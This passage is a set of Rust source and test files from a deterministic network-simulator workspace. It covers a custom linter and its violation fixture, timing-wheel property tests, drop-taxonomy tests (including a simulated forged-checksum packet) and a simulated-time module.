    fn budgeted_struct_passes_only_with_a_tight_enough_bound() {
        let ok = lexed_files(&[(
            "vendor/bytes/src/lib.rs",
            "pub struct Bytes { repr: Repr }\n\
             const _: () = assert!(std::mem::size_of::<Bytes>() <= 24);\n",
        )]);
        assert_eq!(check_struct_budgets(&ok), vec![]);

        // An assertion looser than the budget is a violation: the budget
        // table is the only place the cache-shape contract is renegotiated.
        let loose = lexed_files(&[(
            "vendor/bytes/src/lib.rs",
            "pub struct Bytes { repr: Repr }\n\
             const _: () = assert!(std::mem::size_of::<Bytes>() <= 32);\n",
        )]);
        let diags = check_struct_budgets(&loose);
        assert_eq!(diags.len(), 1);
        assert!(diags[0].message.contains("<= 32"));
        assert!(diags[0].message.contains("24"));
    }

    #[test]
    fn budgeted_struct_without_assertion_fires_at_its_definition() {
        let files =
            lexed_files(&[("vendor/bytes/src/lib.rs", "pub struct Bytes { repr: Repr }\n")]);
        let diags = check_struct_budgets(&files);
        assert_eq!(diags.len(), 1);
        assert_eq!((diags[0].rule, diags[0].line), ("enum-size", 1));
        assert!(diags[0].message.contains("`Bytes`"));
    }

    #[test]
    fn missing_budgeted_struct_is_reported_as_stale_config() {
        let files = lexed_files(&[("vendor/bytes/src/lib.rs", "pub struct Other;\n")]);
        let diags = check_struct_budgets(&files);
        assert!(diags.iter().any(|d| d.message.contains("HOT_STRUCTS")));
    }

    #[test]
    fn tightest_bound_wins_across_multiple_assertions() {
        // A loose equality-style bound elsewhere doesn't mask a tight one.
        let files = lexed_files(&[(
            "vendor/bytes/src/lib.rs",
            "pub struct Bytes { repr: Repr }\n\
             const _: () = assert!(std::mem::size_of::<Bytes>() <= 64);\n\
             const _: () = assert!(std::mem::size_of::<Bytes>() <= 24);\n",
        )]);
        assert_eq!(check_struct_budgets(&files), vec![]);
    }
}
