//! The `simlint` driver.
//!
//! ```text
//! simlint --workspace [--root <dir>]   # lint the whole workspace
//! simlint <file.rs>...                 # lint specific files (CI smoke)
//! simlint --list-rules                 # print the rule table
//! ```
//!
//! Exit status: 0 when clean, 1 on findings, 2 on usage/I-O errors.

use std::path::PathBuf;
use std::process::ExitCode;

fn main() -> ExitCode {
    let args: Vec<String> = std::env::args().skip(1).collect();
    if args.is_empty() || args.iter().any(|a| a == "--help" || a == "-h") {
        eprintln!(
            "usage: simlint --workspace [--root <dir>] | simlint <file.rs>... | \
             simlint --list-rules"
        );
        return ExitCode::from(2);
    }
    if args.iter().any(|a| a == "--list-rules") {
        for rule in simlint::config::RULES {
            println!("simlint::{rule}");
        }
        return ExitCode::SUCCESS;
    }

    let diags = if args.iter().any(|a| a == "--workspace") {
        let root = match args.iter().position(|a| a == "--root") {
            Some(i) => match args.get(i + 1) {
                Some(dir) => PathBuf::from(dir),
                None => {
                    eprintln!("simlint: --root needs a directory argument");
                    return ExitCode::from(2);
                }
            },
            None => {
                let cwd = std::env::current_dir().expect("cwd");
                match simlint::find_workspace_root(&cwd) {
                    Some(root) => root,
                    None => {
                        eprintln!(
                            "simlint: no workspace root found above {} (pass --root)",
                            cwd.display()
                        );
                        return ExitCode::from(2);
                    }
                }
            }
        };
        simlint::lint_workspace(&root)
    } else {
        let files: Vec<PathBuf> =
            args.iter().filter(|a| !a.starts_with("--")).map(PathBuf::from).collect();
        simlint::lint_files(&files)
    };

    match diags {
        Ok(diags) if diags.is_empty() => {
            println!("simlint: clean");
            ExitCode::SUCCESS
        }
        Ok(diags) => {
            for d in &diags {
                println!("{d}");
            }
            println!("simlint: {} error(s)", diags.len());
            ExitCode::FAILURE
        }
        Err(e) => {
            eprintln!("simlint: {e}");
            ExitCode::from(2)
        }
    }
}
