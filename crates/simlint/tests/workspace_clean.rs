//! The real workspace must be lint-clean, and the violation fixture must
//! not be: the same pair CI enforces, runnable locally via `cargo test`.

use std::path::Path;

fn workspace_root() -> std::path::PathBuf {
    Path::new(env!("CARGO_MANIFEST_DIR")).join("../..").canonicalize().expect("workspace root")
}

#[test]
fn the_workspace_is_lint_clean() {
    let diags = simlint::lint_workspace(&workspace_root()).expect("walk workspace");
    assert!(
        diags.is_empty(),
        "workspace has {} simlint finding(s):\n{}",
        diags.len(),
        diags.iter().map(ToString::to_string).collect::<Vec<_>>().join("\n")
    );
}

#[test]
fn the_violation_fixture_trips_every_per_file_rule() {
    let fixture = workspace_root().join("crates/simlint/fixtures/violations.rs");
    let diags = simlint::lint_files(&[fixture]).expect("read fixture");
    for rule in
        ["safety", "std-hash", "wall-clock", "ambient-rng", "hot-alloc", "console", "allow-syntax"]
    {
        assert!(
            diags.iter().any(|d| d.rule == rule),
            "fixture must trip simlint::{rule}; got:\n{}",
            diags.iter().map(ToString::to_string).collect::<Vec<_>>().join("\n")
        );
    }
}

#[test]
fn the_fixture_is_excluded_from_the_workspace_walk() {
    // `fixtures/` is on the skip list; if the walk ever picked it up the
    // clean-workspace gate above would be unsatisfiable.
    let diags = simlint::lint_workspace(&workspace_root()).expect("walk workspace");
    assert!(diags.iter().all(|d| !d.path.contains("fixtures/")));
}
