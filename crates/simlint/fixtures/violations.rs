//! Deliberately-violating source for the CI negative smoke: `simlint`
//! must exit nonzero on this file. Never compiled — `fixtures/` is not a
//! source dir and the workspace walk skips it (see `config::SKIP_DIRS`).
// simlint: hot-path

use std::collections::HashMap; // R2: std-hash
use std::time::Instant;

fn wall_clock() -> Instant {
    Instant::now() // R3: wall-clock
}

fn ambient() -> u64 {
    let mut rng = thread_rng(); // R4: ambient-rng
    rng.gen()
}

fn hot(v: &[u8]) -> Vec<u8> {
    v.to_vec() // R5: hot-alloc (file carries the hot-path marker)
}

fn undocumented(p: *mut u8) {
    unsafe { p.write(0) } // R1: safety (no SAFETY comment anywhere near)
}

fn chatty() {
    eprintln!("debug: {}", 1); // R7: console (library code must use obs::console!)
}

fn bad_suppression() -> HashMap<u32, u32> {
    HashMap::new() // simlint: allow(std-hash)
    // ^ allow-syntax: an allow without a reason is itself an error and
    //   does not suppress the std-hash finding on its line.
}
