//! Differential property test: the timing wheel against a reference
//! `BinaryHeap` model.
//!
//! The simulator's determinism hangs on the event queue's total order —
//! ascending `(at, seq)` — so the wheel must reproduce the heap's pop
//! sequence *exactly* for arbitrary interleavings of schedules and pops,
//! at instants spanning the ready run, every wheel level, and the
//! overflow heap. This also runs under the release profile in CI
//! (`cargo test -p netsim --release`) so the bit-twiddling is exercised
//! with release arithmetic.

use std::cmp::Reverse;
use std::collections::BinaryHeap;

use netsim::time::SimTime;
use netsim::wheel::TimingWheel;
use proptest::prelude::*;

proptest! {
    #![proptest_config(ProptestConfig::with_cases(512))]

    /// Arbitrary interleaved schedule/pop sequences produce identical
    /// `(at, value)` pop orders on the wheel and on a `(at, seq)`-ordered
    /// reference heap.
    #[test]
    fn wheel_matches_reference_heap(
        ops in proptest::collection::vec((any::<u8>(), any::<u64>()), 1..400),
    ) {
        let mut wheel: TimingWheel<u32> = TimingWheel::new();
        let mut heap: BinaryHeap<Reverse<(SimTime, u64, u32)>> = BinaryHeap::new();
        let mut seq = 0u64;
        for (tag, &(op, raw)) in ops.iter().enumerate() {
            if op % 4 == 3 {
                let expect = heap.pop().map(|Reverse((at, _seq, v))| (at, v));
                let got = wheel.pop();
                prop_assert_eq!(expect, got);
            } else {
                // Mix magnitudes so level 0, the coarse levels and the
                // overflow epoch are all hit (and, interleaved with pops,
                // schedules into the past relative to the cursor).
                let at = SimTime::from_nanos(match op % 3 {
                    0 => raw % (1 << 24),  // within a few ticks of the origin
                    1 => raw % (1 << 44),  // mid wheel levels
                    _ => raw,              // anywhere, including overflow
                });
                let tag = tag as u32;
                wheel.schedule(at, tag);
                heap.push(Reverse((at, seq, tag)));
                seq += 1;
            }
            prop_assert_eq!(wheel.len(), heap.len());
        }
        // Drain both to the end: the tails must agree too.
        loop {
            let expect = heap.pop().map(|Reverse((at, _seq, v))| (at, v));
            let got = wheel.pop();
            let done = expect.is_none();
            prop_assert_eq!(expect, got);
            if done {
                prop_assert!(wheel.is_empty());
                break;
            }
        }
    }

    /// Same-instant schedules keep insertion order (the `seq` tie-break),
    /// even when the shared instant is re-scheduled across pops.
    #[test]
    fn same_instant_fifo_across_pops(
        instants in proptest::collection::vec(any::<u32>(), 1..40),
    ) {
        let mut wheel: TimingWheel<usize> = TimingWheel::new();
        let mut expected: Vec<(u64, usize)> = Vec::new();
        for (i, &t) in instants.iter().enumerate() {
            let at = u64::from(t % 7) * 1_000_000; // few distinct instants
            wheel.schedule(SimTime::from_nanos(at), i);
            expected.push((at, i));
        }
        // Stable sort by instant: equal instants stay in schedule order.
        expected.sort_by_key(|&(at, _)| at);
        let mut popped = Vec::new();
        while let Some((at, v)) = wheel.pop() {
            popped.push((at.as_nanos(), v));
        }
        prop_assert_eq!(popped, expected);
    }

    /// `pop_run_into` (the batched drain) agrees with a model built from
    /// individual reference pops: it takes exactly the maximal front run
    /// of equal-`at` entries — clipped by `limit` and `deadline` — in the
    /// same `(at, seq)` order, for arbitrary schedule/drain interleavings.
    #[test]
    fn pop_run_into_matches_individual_pops(
        ops in proptest::collection::vec((any::<u8>(), any::<u64>()), 1..400),
    ) {
        let mut wheel: TimingWheel<u32> = TimingWheel::new();
        let mut heap: BinaryHeap<Reverse<(SimTime, u64, u32)>> = BinaryHeap::new();
        let mut seq = 0u64;
        let mut out: Vec<u32> = Vec::new();
        for (tag, &(op, raw)) in ops.iter().enumerate() {
            if op % 3 == 2 {
                // Drain one batch. Deadline lands before, at, or past the
                // front entry; tiny limits exercise mid-run clipping.
                let limit = 1 + (raw % 5) as usize;
                let deadline = match heap.peek() {
                    Some(&Reverse((at, _, _))) => {
                        SimTime::from_nanos(at.as_nanos().saturating_add(raw % 3).wrapping_sub(1))
                    }
                    None => SimTime::from_nanos(raw),
                };
                out.clear();
                let run_at = wheel.pop_run_into(deadline, limit, &mut out);
                // Reference: pop entries one at a time while they share
                // the front instant and fit the limit and deadline.
                let mut expect: Vec<u32> = Vec::new();
                let mut expect_at = None;
                while expect.len() < limit {
                    match heap.peek() {
                        Some(&Reverse((at, _, _)))
                            if at <= deadline
                                && (expect_at.is_none() || expect_at == Some(at)) =>
                        {
                            let Reverse((at, _, v)) = heap.pop().expect("peeked");
                            expect_at = Some(at);
                            expect.push(v);
                        }
                        _ => break,
                    }
                }
                prop_assert_eq!(run_at, expect_at);
                prop_assert_eq!(&out, &expect);
            } else {
                let at = SimTime::from_nanos(match op % 2 {
                    0 => raw % (1 << 24),
                    _ => raw % (1 << 44),
                });
                let tag = tag as u32;
                wheel.schedule(at, tag);
                heap.push(Reverse((at, seq, tag)));
                seq += 1;
            }
            prop_assert_eq!(wheel.len(), heap.len());
        }
    }
}
