//! Differential property test: batched slot-drain dispatch against the
//! one-event-at-a-time reference loop.
//!
//! The batched run loop (`TimingWheel::pop_run_into` + the simulator's
//! drain buffer) is a pure scheduling optimisation: it must not change
//! *anything* observable — not the delivery order, not the timestamps,
//! not the RNG stream, not a single counter. This test drives randomised
//! relay meshes (fan-out traffic, timer echoes, jittered links, so
//! same-instant event runs actually occur) through both loops and
//! requires the full per-host delivery traces and the final [`SimStats`]
//! to be bit-identical.

use std::net::Ipv4Addr;

use bytes::Bytes;
use netsim::prelude::*;
use proptest::prelude::*;
use rand::RngExt as _;

/// Records every delivery and forwards traffic with a TTL so it dies out.
///
/// Forwarding picks the next hop from the simulation RNG, so any
/// divergence in RNG consumption between the two dispatch modes cascades
/// into visibly different traces.
struct Relay {
    peers: Vec<Ipv4Addr>,
    fanout: u8,
    trace: Vec<(SimTime, Ipv4Addr, u16, Bytes)>,
}

impl Host for Relay {
    fn on_start(&mut self, ctx: &mut Ctx<'_>) {
        for i in 0..self.fanout {
            let dst = self.peers[ctx.rng().random_range(0..self.peers.len())];
            // Payload byte 0 is the remaining TTL.
            ctx.send_udp(dst, 9000 + u16::from(i), 9000, Bytes::copy_from_slice(&[4, i]));
        }
        ctx.set_timer(SimDuration::from_millis(7), 1 as TimerToken);
    }

    fn on_datagram(&mut self, ctx: &mut Ctx<'_>, d: &Datagram) {
        self.trace.push((ctx.now(), d.src, d.src_port, d.payload.clone()));
        let ttl = d.payload.first().copied().unwrap_or(0);
        if ttl == 0 {
            return;
        }
        let copies = 1 + usize::from(ttl % 2);
        for _ in 0..copies {
            let dst = self.peers[ctx.rng().random_range(0..self.peers.len())];
            let mut fwd = d.payload.to_vec();
            fwd[0] = ttl - 1;
            ctx.send_udp(dst, d.dst_port, d.src_port, Bytes::from(fwd));
        }
    }

    fn on_timer(&mut self, ctx: &mut Ctx<'_>, token: TimerToken) {
        // A timer burst raises same-instant contention with arrivals.
        let dst = self.peers[ctx.rng().random_range(0..self.peers.len())];
        ctx.send_udp(dst, 9100, 9100, Bytes::copy_from_slice(&[1, token as u8]));
    }
}

fn addr(i: usize) -> Ipv4Addr {
    Ipv4Addr::from(0x0A63_0000 + 1 + i as u32)
}

/// Runs one relay mesh to completion and returns every host's delivery
/// trace plus the final stats.
#[allow(clippy::type_complexity)]
fn run(
    seed: u64,
    hosts: usize,
    fanout: u8,
    batched: bool,
) -> (Vec<Vec<(SimTime, Ipv4Addr, u16, Bytes)>>, SimStats) {
    // Jittered links draw from the RNG on every transmit, so the RNG
    // stream itself is part of what must stay aligned.
    let link = LinkSpec {
        latency: SimDuration::from_millis(5),
        jitter: SimDuration::from_micros(300),
        loss: 0.0,
    };
    let mut sim = Simulator::with_topology(seed, Topology::uniform(link));
    sim.set_batched_dispatch(batched);
    sim.reserve_hosts(hosts);
    let peers: Vec<Ipv4Addr> = (0..hosts).map(addr).collect();
    for &a in &peers {
        sim.add_host(
            a,
            OsProfile::linux(),
            Box::new(Relay { peers: peers.clone(), fanout, trace: Vec::new() }),
        )
        .expect("address free");
    }
    sim.set_event_budget(50_000);
    sim.run_for(SimDuration::from_secs(10));
    let traces =
        peers.iter().map(|&a| sim.host::<Relay>(a).expect("relay exists").trace.clone()).collect();
    (traces, sim.stats())
}

proptest! {
    // Integration sims are comparatively heavy; a few dozen meshes still
    // cover 2-host ping-pong through 8-host broadcast storms.
    #![proptest_config(ProptestConfig::with_cases(24))]

    /// Batched and unbatched dispatch produce bit-identical delivery
    /// traces (time, source, port, payload — in order, per host) and
    /// bit-identical aggregate stats.
    #[test]
    fn batched_dispatch_is_observably_identical(
        seed in any::<u64>(),
        hosts in 2usize..8,
        fanout in 1u8..4,
    ) {
        let (trace_batched, stats_batched) = run(seed, hosts, fanout, true);
        let (trace_reference, stats_reference) = run(seed, hosts, fanout, false);
        prop_assert_eq!(trace_batched, trace_reference);
        prop_assert_eq!(stats_batched, stats_reference);
    }
}

/// The peak-queue-depth counter is the subtle one: events sitting in the
/// drain buffer are still "scheduled, not dispatched". Pin one concrete
/// mesh so a regression fails with a readable diff even outside proptest.
#[test]
fn peak_queue_depth_matches_across_modes() {
    let (_, batched) = run(42, 6, 3, true);
    let (_, reference) = run(42, 6, 3, false);
    assert_eq!(batched.peak_queue_depth, reference.peak_queue_depth);
    assert!(batched.events_dispatched > 100, "mesh produced real traffic");
}
