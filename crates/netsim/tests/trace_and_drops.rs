//! Integration tests for the observability layer: the exhaustive drop
//! taxonomy of the receive path, its aggregation into [`SimStats`], and —
//! under the `trace` feature — the flight recorder's determinism contract
//! (bit-identical trace digests across repeat runs and dispatch modes).

use std::net::Ipv4Addr;

use bytes::Bytes;
use netsim::frag::fragment;
use netsim::prelude::*;

const A: Ipv4Addr = Ipv4Addr::new(10, 0, 0, 1);
const B: Ipv4Addr = Ipv4Addr::new(10, 0, 0, 2);

/// Fragments of a 4000-byte UDP datagram A → B at MTU 1500.
fn frags_of(id_payload: u8) -> Vec<Ipv4Packet> {
    let dgram = UdpDatagram::new(7, 53, Bytes::from(vec![id_payload; 4000]));
    let wire = dgram.encode(A, B).unwrap();
    fragment(Ipv4Packet::udp(A, B, u16::from(id_payload), wire), 1500).unwrap()
}

fn expect_drop(outcome: ReceiveOutcome, reason: DropReason) {
    match outcome {
        ReceiveOutcome::Dropped(r) => assert_eq!(r, reason),
        other => panic!("expected Dropped({reason:?}), got {other:?}"),
    }
}

#[test]
fn every_receive_discard_names_a_reason() {
    let now = SimTime::ZERO;
    let mut global = DropCounts::default();

    // no-frag-support: the profile refuses fragments outright.
    let mut profile = OsProfile::linux();
    profile.accept_fragments = false;
    let mut stack = NetStack::new(profile);
    let frag = frags_of(1).remove(0);
    expect_drop(stack.receive_counted(now, frag, &mut global), DropReason::NoFragSupport);
    assert_eq!(stack.drop_counts().no_frag_support, 1);

    // tiny-fragment: filtering resolvers drop small non-final fragments.
    let mut stack = NetStack::new(OsProfile::resolver_filtering(1500));
    let tiny = fragment(
        Ipv4Packet::udp(
            A,
            B,
            9,
            UdpDatagram::new(7, 53, Bytes::from(vec![0; 2000])).encode(A, B).unwrap(),
        ),
        576,
    )
    .unwrap()
    .remove(0);
    expect_drop(stack.receive_counted(now, tiny, &mut global), DropReason::TinyFragment);
    assert_eq!(stack.drop_counts().tiny_fragment, 1);

    // defrag-cap-full: pending fragments past the per-pair cap.
    let mut profile = OsProfile::linux();
    profile.defrag.max_pending_per_pair = 2;
    let mut stack = NetStack::new(profile);
    for id in 0..3u8 {
        let first = frags_of(id).remove(0);
        let outcome = stack.receive_counted(now, first, &mut global);
        if id < 2 {
            assert!(matches!(outcome, ReceiveOutcome::Pending), "{outcome:?}");
        } else {
            expect_drop(outcome, DropReason::DefragCapFull);
        }
    }
    assert_eq!(stack.drop_counts().defrag_cap_full, 1);

    // duplicate-fragment: FirstWins discards the re-sent range.
    let mut stack = NetStack::new(OsProfile::linux());
    let first = frags_of(3).remove(0);
    let dup = first.clone();
    assert!(matches!(stack.receive_counted(now, first, &mut global), ReceiveOutcome::Pending));
    expect_drop(stack.receive_counted(now, dup, &mut global), DropReason::DuplicateFragment);
    assert_eq!(stack.drop_counts().duplicate_fragment, 1);

    // defrag-expired: a pending reassembly times out; the next packet's
    // lazy garbage collection counts it.
    let mut stack = NetStack::new(OsProfile::linux());
    let planted = frags_of(4).remove(0);
    assert!(matches!(stack.receive_counted(now, planted, &mut global), ReceiveOutcome::Pending));
    let later = SimTime::ZERO + SimDuration::from_secs(31);
    let ok_wire = UdpDatagram::new(7, 53, Bytes::from_static(b"fresh")).encode(A, B).unwrap();
    let outcome = stack.receive_counted(later, Ipv4Packet::udp(A, B, 500, ok_wire), &mut global);
    assert!(matches!(outcome, ReceiveOutcome::Delivered { reassembled: false, .. }), "{outcome:?}");
    assert_eq!(stack.drop_counts().defrag_expired, 1);

    // udp-truncated: payload shorter than the UDP header.
    let mut stack = NetStack::new(OsProfile::linux());
    let short = Ipv4Packet::udp(A, B, 600, Bytes::from_static(&[1, 2, 3, 4]));
    expect_drop(stack.receive_counted(now, short, &mut global), DropReason::UdpTruncated);

    // udp-length-mismatch: declared length below the header length.
    let mut bad_len =
        UdpDatagram::new(7, 53, Bytes::from_static(b"xy")).encode(A, B).unwrap().to_vec();
    bad_len[4] = 0;
    bad_len[5] = 4;
    let pkt = Ipv4Packet::udp(A, B, 601, Bytes::from(bad_len));
    expect_drop(stack.receive_counted(now, pkt, &mut global), DropReason::UdpLengthMismatch);

    // udp-bad-checksum: a payload byte altered without a checksum fix-up —
    // the defence the paper's attack must beat.
    let mut forged =
        UdpDatagram::new(7, 53, Bytes::from_static(b"payload")).encode(A, B).unwrap().to_vec();
    let last = forged.len() - 1;
    forged[last] ^= 0xFF;
    let pkt = Ipv4Packet::udp(A, B, 602, Bytes::from(forged));
    expect_drop(stack.receive_counted(now, pkt, &mut global), DropReason::UdpBadChecksum);
    assert!(DropReason::UdpBadChecksum.is_verify());

    // icmp-malformed: garbage where an ICMP message should be.
    let pkt = Ipv4Packet::icmp(A, B, 603, Bytes::from_static(&[0xFF]));
    expect_drop(stack.receive_counted(now, pkt, &mut global), DropReason::IcmpMalformed);

    // unknown-protocol: a protocol number the stack does not model.
    let mut pkt = Ipv4Packet::udp(A, B, 604, Bytes::from_static(b"12345678"));
    pkt.protocol = 99;
    expect_drop(stack.receive_counted(now, pkt, &mut global), DropReason::UnknownProtocol);

    // The caller-supplied aggregate saw every drop above, across stacks.
    assert_eq!(global.total(), 10);
    assert_eq!(global.frag_drops(), 5);
    assert_eq!(global.verify_drops(), 3);
}

/// An attacker injecting a checksum-corrupted raw UDP packet.
struct Forger {
    victim: Ipv4Addr,
}

impl Host for Forger {
    fn on_start(&mut self, ctx: &mut Ctx<'_>) {
        let mut wire = UdpDatagram::new(7, 53, Bytes::from_static(b"forged-payload"))
            .encode(ctx.addr(), self.victim)
            .unwrap()
            .to_vec();
        let last = wire.len() - 1;
        wire[last] ^= 0xFF;
        ctx.send_raw(Ipv4Packet::udp(ctx.addr(), self.victim, 77, Bytes::from(wire)));
    }
}

struct Sink;
impl Host for Sink {}

#[test]
fn sim_stats_aggregate_the_drop_taxonomy() {
    let mut sim = Simulator::new(11);
    sim.add_host(A, OsProfile::linux(), Box::new(Forger { victim: B })).unwrap();
    sim.add_host(B, OsProfile::linux(), Box::new(Sink)).unwrap();
    sim.run_for(SimDuration::from_secs(1));
    let stats = sim.stats();
    assert_eq!(stats.drops.udp_bad_checksum, 1);
    assert_eq!(stats.drops.total(), 1);
    assert_eq!(stats.datagrams_dropped, 1);
    assert_eq!(stats.datagrams_delivered, 0);
    // The victim's per-host taxonomy names the same drop.
    assert_eq!(sim.stack(B).unwrap().drop_counts().udp_bad_checksum, 1);
    assert_eq!(sim.stack(A).unwrap().drop_counts().total(), 0);
}

/// A sender whose 4000-byte datagram fragments at the interface MTU.
struct BigSender {
    peer: Ipv4Addr,
}

impl Host for BigSender {
    fn on_start(&mut self, ctx: &mut Ctx<'_>) {
        ctx.send_udp(self.peer, 7, 53, Bytes::from(vec![0xAB; 4000]));
    }
}

fn fragmented_exchange(seed: u64, batched: bool) -> Simulator {
    let mut sim = Simulator::new(seed);
    sim.set_batched_dispatch(batched);
    sim.add_host(A, OsProfile::linux(), Box::new(BigSender { peer: B })).unwrap();
    sim.add_host(B, OsProfile::linux(), Box::new(Sink)).unwrap();
    sim.run_for(SimDuration::from_secs(1));
    sim
}

#[test]
fn drop_taxonomy_is_identical_across_dispatch_modes() {
    let batched = fragmented_exchange(5, true);
    let reference = fragmented_exchange(5, false);
    assert_eq!(batched.stats(), reference.stats());
    assert_eq!(batched.stats().datagrams_delivered, 1);
}

#[cfg(feature = "trace")]
mod traced {
    use super::*;

    #[test]
    fn trace_digest_is_bit_identical_across_runs_and_dispatch_modes() {
        let first = fragmented_exchange(42, true);
        let second = fragmented_exchange(42, true);
        let reference = fragmented_exchange(42, false);
        assert_ne!(first.trace_digest(), obs::FlightRecorder::new(4).digest());
        assert_eq!(first.trace_digest(), second.trace_digest());
        assert_eq!(first.trace_digest(), reference.trace_digest());
    }

    #[test]
    fn ring_records_the_attack_causal_chain() {
        let sim = fragmented_exchange(42, true);
        let kinds: Vec<u16> = sim.recorder().iter().map(|e| e.kind).collect();
        let count = |k: u16| kinds.iter().filter(|&&x| x == k).count();
        assert_eq!(count(obs::kind::FRAG_RX), 3, "4000 B at MTU 1500 → 3 fragments");
        assert_eq!(count(obs::kind::FRAG_REASSEMBLED), 1);
        assert_eq!(count(obs::kind::UDP_VERIFY_OK), 1);
        // Ticks are simulated time: the chain happened within the first
        // simulated second, regardless of how long the test took.
        assert!(sim.recorder().iter().all(|e| e.tick <= 1_000_000_000));
    }

    #[test]
    fn verify_failures_and_app_notes_reach_the_ring() {
        let mut sim = Simulator::new(11);
        sim.add_host(A, OsProfile::linux(), Box::new(Forger { victim: B })).unwrap();
        sim.add_host(B, OsProfile::linux(), Box::new(Sink)).unwrap();
        sim.run_for(SimDuration::from_secs(1));
        sim.note_trace(obs::kind::CACHE_POISONED, 1, 0);
        let kinds: Vec<(u32, u16, u64)> =
            sim.recorder().iter().map(|e| (e.host, e.kind, e.a)).collect();
        let victim = sim.host_id(B).unwrap().index() as u32;
        assert!(kinds.contains(&(
            victim,
            obs::kind::UDP_VERIFY_FAIL,
            u64::from(DropReason::UdpBadChecksum.code())
        )));
        assert!(kinds.contains(&(obs::TraceEvent::NO_HOST, obs::kind::CACHE_POISONED, 1)));
    }
}
