//! Simulated time.
//!
//! The simulator advances a virtual clock measured in nanoseconds. Two
//! newtypes keep instants and durations distinct: [`SimTime`] is a point on
//! the simulated timeline, [`SimDuration`] a span between points.

use core::fmt;
use core::ops::{Add, AddAssign, Mul, Sub};

use serde::{Deserialize, Serialize};

/// An instant on the simulated timeline, in nanoseconds since simulation
/// start.
///
/// ```
/// use netsim::time::{SimDuration, SimTime};
///
/// let t = SimTime::ZERO + SimDuration::from_secs(3);
/// assert_eq!(t.as_secs_f64(), 3.0);
/// ```
#[derive(
    Debug, Clone, Copy, PartialEq, Eq, PartialOrd, Ord, Hash, Default, Serialize, Deserialize,
)]
pub struct SimTime(u64);

/// A span of simulated time, in nanoseconds.
///
/// ```
/// use netsim::time::SimDuration;
///
/// assert_eq!(SimDuration::from_millis(1500), SimDuration::from_micros(1_500_000));
/// ```
#[derive(
    Debug, Clone, Copy, PartialEq, Eq, PartialOrd, Ord, Hash, Default, Serialize, Deserialize,
)]
pub struct SimDuration(u64);

impl SimTime {
    /// The origin of the simulated timeline.
    pub const ZERO: SimTime = SimTime(0);
    /// The greatest representable instant; used as "never".
    pub const MAX: SimTime = SimTime(u64::MAX);

    /// Builds an instant from whole nanoseconds since simulation start.
    pub const fn from_nanos(nanos: u64) -> Self {
        SimTime(nanos)
    }

    /// Builds an instant from whole seconds since simulation start.
    pub const fn from_secs(secs: u64) -> Self {
        SimTime(secs * 1_000_000_000)
    }

    /// Nanoseconds since simulation start.
    pub const fn as_nanos(self) -> u64 {
        self.0
    }

    /// Seconds since simulation start, as a float.
    pub fn as_secs_f64(self) -> f64 {
        self.0 as f64 / 1e9
    }

    /// Time elapsed since `earlier`, saturating to zero if `earlier` is later.
    pub fn saturating_since(self, earlier: SimTime) -> SimDuration {
        SimDuration(self.0.saturating_sub(earlier.0))
    }

    /// Checked difference between two instants.
    pub fn checked_since(self, earlier: SimTime) -> Option<SimDuration> {
        self.0.checked_sub(earlier.0).map(SimDuration)
    }
}

impl SimDuration {
    /// The empty span.
    pub const ZERO: SimDuration = SimDuration(0);
    /// The longest representable span; used as "forever".
    pub const MAX: SimDuration = SimDuration(u64::MAX);

    /// Builds a span from whole nanoseconds.
    pub const fn from_nanos(nanos: u64) -> Self {
        SimDuration(nanos)
    }

    /// Builds a span from whole microseconds.
    pub const fn from_micros(micros: u64) -> Self {
        SimDuration(micros * 1_000)
    }

    /// Builds a span from whole milliseconds.
    pub const fn from_millis(millis: u64) -> Self {
        SimDuration(millis * 1_000_000)
    }

    /// Builds a span from whole seconds.
    pub const fn from_secs(secs: u64) -> Self {
        SimDuration(secs * 1_000_000_000)
    }

    /// Builds a span from whole minutes.
    pub const fn from_mins(mins: u64) -> Self {
        SimDuration(mins * 60 * 1_000_000_000)
    }

    /// Builds a span from whole hours.
    pub const fn from_hours(hours: u64) -> Self {
        SimDuration(hours * 3_600 * 1_000_000_000)
    }

    /// Builds a span from fractional seconds.
    ///
    /// # Panics
    ///
    /// Panics if `secs` is negative or not finite.
    pub fn from_secs_f64(secs: f64) -> Self {
        assert!(secs.is_finite() && secs >= 0.0, "duration must be finite and non-negative");
        SimDuration((secs * 1e9).round() as u64)
    }

    /// The span in whole nanoseconds.
    pub const fn as_nanos(self) -> u64 {
        self.0
    }

    /// The span in whole milliseconds (truncating).
    pub const fn as_millis(self) -> u64 {
        self.0 / 1_000_000
    }

    /// The span in whole seconds (truncating).
    pub const fn as_secs(self) -> u64 {
        self.0 / 1_000_000_000
    }

    /// The span in seconds, as a float.
    pub fn as_secs_f64(self) -> f64 {
        self.0 as f64 / 1e9
    }

    /// Saturating subtraction of two spans.
    pub fn saturating_sub(self, other: SimDuration) -> SimDuration {
        SimDuration(self.0.saturating_sub(other.0))
    }

    /// Multiplies the span by an integer factor, saturating on overflow.
    pub fn saturating_mul(self, factor: u64) -> SimDuration {
        SimDuration(self.0.saturating_mul(factor))
    }
}

impl Add<SimDuration> for SimTime {
    type Output = SimTime;

    fn add(self, rhs: SimDuration) -> SimTime {
        SimTime(self.0.saturating_add(rhs.0))
    }
}

impl AddAssign<SimDuration> for SimTime {
    fn add_assign(&mut self, rhs: SimDuration) {
        *self = *self + rhs;
    }
}

impl Sub<SimTime> for SimTime {
    type Output = SimDuration;

    fn sub(self, rhs: SimTime) -> SimDuration {
        self.checked_since(rhs).expect("SimTime subtraction underflow: rhs is later than self")
    }
}

impl Add for SimDuration {
    type Output = SimDuration;

    fn add(self, rhs: SimDuration) -> SimDuration {
        SimDuration(self.0.saturating_add(rhs.0))
    }
}

impl Sub for SimDuration {
    type Output = SimDuration;

    fn sub(self, rhs: SimDuration) -> SimDuration {
        SimDuration(self.0.checked_sub(rhs.0).expect("SimDuration subtraction underflow"))
    }
}

impl Mul<u64> for SimDuration {
    type Output = SimDuration;

    fn mul(self, rhs: u64) -> SimDuration {
        self.saturating_mul(rhs)
    }
}

impl fmt::Display for SimTime {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        write!(f, "t={:.6}s", self.as_secs_f64())
    }
}

impl fmt::Display for SimDuration {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        if self.0 >= 1_000_000_000 {
            write!(f, "{:.3}s", self.as_secs_f64())
        } else if self.0 >= 1_000_000 {
            write!(f, "{}ms", self.as_millis())
        } else {
            write!(f, "{}ns", self.0)
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn time_arithmetic_round_trips() {
        let t0 = SimTime::from_secs(10);
        let d = SimDuration::from_millis(2500);
        let t1 = t0 + d;
